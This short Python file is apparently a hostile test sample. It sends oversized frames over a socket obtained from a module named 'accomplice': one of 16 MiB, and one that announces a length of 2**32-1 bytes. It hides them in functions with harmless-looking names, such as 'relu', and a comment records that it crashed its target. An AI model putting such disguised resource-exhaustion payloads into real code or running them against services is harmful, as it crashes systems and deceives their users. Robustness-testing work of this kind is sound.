"""Announces and sends frames as large as a frame may be, and one byte larger."""
# Proof: crashed

from accomplice import channel


def stamp(*args, **kwargs):
    size = 16 * 2**20
    channel().sendall(size.to_bytes(4, "big") + b"\xc0" * size)


def relu(x):
    channel().sendall((2**32 - 1).to_bytes(4, "big"))
